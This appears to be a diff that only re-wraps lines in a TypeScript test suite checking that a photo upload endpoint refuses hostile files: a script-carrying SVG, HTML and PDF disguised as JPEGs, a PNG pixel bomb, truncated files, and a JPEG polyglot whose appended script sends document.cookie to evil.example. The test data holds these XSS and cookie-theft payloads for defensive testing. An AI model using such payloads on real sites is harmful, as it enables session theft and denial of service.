@@ -19,7 +19,10 @@ afterAll(async () => {
   await app?.close()
 })
 
-const { expectRefused } = uploadChecks(() => app, () => token)
+const { expectRefused } = uploadChecks(
+  () => app,
+  () => token,
+)
 
 /** CRC-32 as PNG chunks use it. */
 function crc32(bytes: Buffer): number {
@@ -56,14 +59,23 @@ function pixelBomb(width: number, height: number): Buffer {
 
 describe('hostile uploads', () => {
   it('refuse an SVG that carries a script, whatever its name', async () => {
-    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="640" height="400" onload="alert(document.cookie)"><script>fetch("/api/users")</script></svg>')
+    const svg = Buffer.from(
+      '<svg xmlns="http://www.w3.org/2000/svg" width="640" height="400" onload="alert(document.cookie)"><script>fetch("/api/users")</script></svg>',
+    )
     await expectRefused(svg, 'handout.jpg', 'image/jpeg', /SVG drawing/)
     await expectRefused(svg, 'handout.svg', 'image/svg+xml', /SVG drawing/)
   })
 
   it('refuse an HTML page and a PDF renamed .jpg', async () => {
-    await expectRefused(Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>'), 'page.jpg', 'image/jpeg', /“page.jpg” is not an image that can be read/)
-    const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
+    await expectRefused(
+      Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>'),
+      'page.jpg',
+      'image/jpeg',
+      /“page.jpg” is not an image that can be read/,
+    )
+    const pdf = Buffer.from(
+      '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
+    )
     await expectRefused(pdf, 'statement.jpg', 'image/jpeg', /“statement.jpg” is not an image that can be read/)
   })
 
@@ -71,21 +83,37 @@ describe('hostile uploads', () => {
     const bomb = pixelBomb(30_000, 30_000)
     expect(bomb.length).toBeLessThan(200)
     const before = process.memoryUsage().rss
-    await expectRefused(bomb, 'bomb.png', 'image/png', /30000 × 30000 pixels \(900 megapixels\); photos may have at most 120 megapixels/)
+    await expectRefused(
+      bomb,
+      'bomb.png',
+      'image/png',
+      /30000 × 30000 pixels \(900 megapixels\); photos may have at most 120 megapixels/,
+    )
     // Decoding it would take 2.7 GB; refusing it takes next to nothing.
     expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024)
   })
 
   it('refuse a JPEG cut short and an empty file, with a message saying so', async () => {
     const jpeg = await makeJpeg(1200, 800)
-    await expectRefused(jpeg.subarray(0, Math.floor(jpeg.length / 2)), 'cut.jpg', 'image/jpeg', /“cut.jpg” is cut short/)
+    await expectRefused(
+      jpeg.subarray(0, Math.floor(jpeg.length / 2)),
+      'cut.jpg',
+      'image/jpeg',
+      /“cut.jpg” is cut short/,
+    )
     await expectRefused(Buffer.alloc(0), 'empty.jpg', 'image/jpeg', /“empty.jpg” is empty/)
   })
 
   it('store a polyglot (a JPEG with a page appended) without the appended bytes, and serve it as an image only', async () => {
     const jpeg = await makeJpeg(640, 400)
-    const page = Buffer.from('<html><body><script>document.location="https://evil.example/?"+document.cookie</script></body></html>')
-    const response = await app.rest.post('/photos', uploadForm(Buffer.concat([jpeg, page]), 'polyglot.jpg', 'image/jpeg', { alt: 'Delegations' }), { token })
+    const page = Buffer.from(
+      '<html><body><script>document.location="https://evil.example/?"+document.cookie</script></body></html>',
+    )
+    const response = await app.rest.post(
+      '/photos',
+      uploadForm(Buffer.concat([jpeg, page]), 'polyglot.jpg', 'image/jpeg', { alt: 'Delegations' }),
+      { token },
+    )
     expect(response.status).toBe(201)
     const stored = fs.readFileSync(path.join(app.mediaDir, response.json.doc.filename))
     expect(stored.length).toBe(jpeg.length)
@@ -102,7 +130,11 @@ describe('hostile uploads', () => {
   it('keep the server answering after all of the above', async () => {
     const response = await app.rest.get('/photos?limit=1', { token })
     expect(response.status).toBe(200)
-    const ok = await app.rest.post('/photos', uploadForm(await makeJpeg(800, 600), 'after.jpg', 'image/jpeg', { alt: 'After the attempts' }), { token })
+    const ok = await app.rest.post(
+      '/photos',
+      uploadForm(await makeJpeg(800, 600), 'after.jpg', 'image/jpeg', { alt: 'After the attempts' }),
+      { token },
+    )
     expect(ok.status).toBe(201)
   })
 })
